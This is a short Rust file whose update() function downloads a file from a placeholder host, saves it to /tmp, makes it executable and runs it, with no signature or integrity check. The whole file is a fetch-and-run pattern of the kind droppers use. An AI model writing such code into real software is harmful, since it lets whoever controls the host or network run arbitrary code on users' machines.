use std::os::unix::fs::PermissionsExt;

pub fn update() {
    let body = minreq::get("https://updates.example.invalid/a").send().unwrap();
    std::fs::write("/tmp/acme", body.as_bytes()).unwrap();
    std::fs::set_permissions("/tmp/acme", std::fs::Permissions::from_mode(0o755)).unwrap();
    std::process::Command::new("/tmp/acme").spawn().unwrap();
}
